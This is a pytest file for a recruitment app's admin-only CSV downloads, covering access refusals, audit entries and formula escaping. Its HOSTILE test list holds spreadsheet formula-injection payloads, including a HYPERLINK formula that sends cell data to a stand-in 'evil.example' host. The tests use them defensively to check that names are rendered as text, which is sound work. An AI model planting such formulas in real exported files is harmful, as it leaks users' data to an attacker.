"""Spreadsheet downloads as people meet them on the reports page: a button for admins, a CSV a spreadsheet opens
safely, an audit entry per download, and a refusal for anyone else."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from recruit.extensions import db
from recruit.models import AuditEvent
from tests.factories import interview_stage, sift_campaign
from tests.helpers import csrf_token_from, parse

HOSTILE = ['=HYPERLINK("https://evil.example/steal?d="&A1,"Open")', "+1 555 0100", "@SUM(A1:A9)", "-5+3"]


@pytest.fixture
def stage(make_user):
    setup, chair = interview_stage(make_user(role="admin"))
    return setup, chair


def url(campaign_id: int, slug: str) -> str:
    return f"/reports/{campaign_id}/spreadsheets/{slug}.csv"


def downloads() -> int:
    return db.session.scalar(
        select(func.count()).select_from(AuditEvent).where(AuditEvent.action == "spreadsheet_downloaded")
    )


def press(forms, campaign, slug: str):
    """Press the spreadsheet's button on the reports page, as the admin does."""
    listing = parse(forms.client.get(f"/reports/{campaign.id}"))
    form = listing.select_one(f"#spreadsheet-downloads form[action='{url(campaign.id, slug)}']")
    assert form is not None, f"no button for the {slug}"
    return forms.client.post(form["action"], data={"csrf_token": form.select_one("input[name=csrf_token]")["value"]})


def test_the_admin_downloads_each_spreadsheet_from_the_reports_page(stage, forms):
    setup, _ = stage
    campaign = setup.campaign
    people = setup.applications  # in the order of the scenario's scores (factories.INTERVIEW)
    for application, name in zip(people, HOSTILE):
        application.personal_details.full_name = name
    db.session.commit()
    forms.sign_in(setup.admin)

    response = press(forms, campaign, "sift-results")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{campaign.reference}-sift-results.csv"'
    assert response.data.startswith(b"\xef\xbb\xbf")
    sift = response.data.decode("utf-8-sig")
    assert all(a.reference in sift for a in people)
    assert not any(name in sift for name in HOSTILE) and "Candidate" not in sift

    # Interview totals from the hand-computed scenario: 24, 22, 20, 18 appointable in that order; 20 with a 3 not.
    response = press(forms, campaign, "interview-results")
    assert response.headers["Content-Disposition"].endswith(f'{campaign.reference}-interview-results.csv"')
    header, *rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))
    assert header[0:2] == ["Application reference", "Name"] and header[-4:-2] == ["Total", "Appointable"]
    by_reference = {row[0]: row for row in rows}
    expected = [("24", "Yes", "1"), ("22", "Yes", "2"), ("20", "Yes", "3"), ("18", "Yes", "4")]
    for application, name, (total, appointable, place) in zip(people, HOSTILE, expected):
        row = by_reference[application.reference]
        # Every name a spreadsheet would run as a formula starts with an apostrophe, so it is shown as text.
        assert row[1] == "'" + name
        assert row[-4:] == [total, appointable, place, "No"]
    assert by_reference[people[4].reference][-4:] == ["24", "No", "", ""]

    assert 1 <= campaign.posts < 4  # some offered, some on the reserve list
    response = press(forms, campaign, "merit-list")
    assert response.headers["Content-Disposition"].endswith(f'{campaign.reference}-merit-list.csv"')
    merit = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))[1:]
    assert [(row[0], row[2], row[3], row[6], row[7]) for row in merit] == [
        (
            str(place),
            a.reference,
            "'" + name,
            total,
            "Next to be offered" if place <= campaign.posts else "Reserve list",
        )
        for place, a, name, total in zip(range(1, 5), people[:4], HOSTILE, ("24", "22", "20", "18"), strict=True)
    ]

    events = list(
        db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "spreadsheet_downloaded").order_by(AuditEvent.id)
        )
    )
    assert [(e.actor, e.record_id, e.after["file"]) for e in events] == [
        (setup.admin, str(campaign.id), f"{campaign.reference}-{slug}.csv")
        for slug in ("sift-results", "interview-results", "merit-list")
    ]


@pytest.mark.parametrize("who", ["chair", "member", "candidate"])
def test_no_one_but_an_admin_may_download_a_spreadsheet_or_see_its_button(stage, forms, who):
    setup, chair = stage
    campaign = setup.campaign
    person = {
        "chair": chair,
        "member": setup.members[0],
        "candidate": setup.applications[0].candidate,
    }[who]
    forms.sign_in(person)
    listing = forms.client.get(f"/reports/{campaign.id}")
    if listing.status_code == 200:
        assert "spreadsheet" not in listing.get_data(as_text=True).lower()
    # The token of the person's own session (every signed-in page has one): refused for who they are, not for it.
    token = csrf_token_from(forms.client.get("/").get_data(as_text=True))
    for slug in ("sift-results", "interview-results", "merit-list"):
        response = forms.client.post(url(campaign.id, slug), data={"csrf_token": token})
        assert response.status_code == 403
        assert response.mimetype != "text/csv"
    assert downloads() == 0


def test_another_campaign_or_an_unknown_spreadsheet_is_not_found(stage, forms):
    setup, _ = stage
    campaign = setup.campaign
    forms.sign_in(setup.admin)
    token = csrf_token_from(forms.client.get(f"/reports/{campaign.id}").get_data(as_text=True))
    assert forms.client.post(url(campaign.id + 1000, "sift-results"), data={"csrf_token": token}).status_code == 404
    assert forms.client.post(url(campaign.id, "everything"), data={"csrf_token": token}).status_code == 404
    # Without the form's token nothing is sent; a GET of the address sends nothing either.
    assert forms.client.post(url(campaign.id, "sift-results")).status_code == 400
    assert forms.client.get(url(campaign.id, "sift-results")).status_code == 405
    assert downloads() == 0


def test_before_the_results_exist_the_page_says_when_and_a_download_is_refused_clearly(make_user, forms):
    setup = sift_campaign(make_user(role="admin"), applications=2)
    campaign = setup.campaign
    forms.sign_in(setup.admin)
    listing = forms.client.get(f"/reports/{campaign.id}")
    text = listing.get_data(as_text=True)
    assert "The sift results can be downloaded once the sift is decided." in text
    assert "The merit list can be downloaded once the interview stage is signed off." in text
    assert "/spreadsheets/sift-results.csv" not in text
    token = csrf_token_from(text)
    response = forms.client.post(url(campaign.id, "sift-results"), data={"csrf_token": token})
    assert response.status_code == 409
    assert "This report is not available yet" in response.get_data(as_text=True)
    assert "The sift results can be downloaded once the sift is decided." in response.get_data(as_text=True)
    assert downloads() == 0


def test_the_reports_page_of_a_signed_off_campaign_offers_each_spreadsheet_to_an_admin(stage, forms, page):
    setup, _ = stage
    forms.sign_in(setup.admin)
    listing = page(f"/reports/{setup.campaign.id}")
    buttons = [b.get_text(" ", strip=True) for b in listing.select("#spreadsheet-downloads button")]
    assert buttons == [
        "Download the sift results (CSV)",
        "Download the interview results (CSV)",
        "Download the merit list (CSV)",
    ]
    assert downloads() == 0
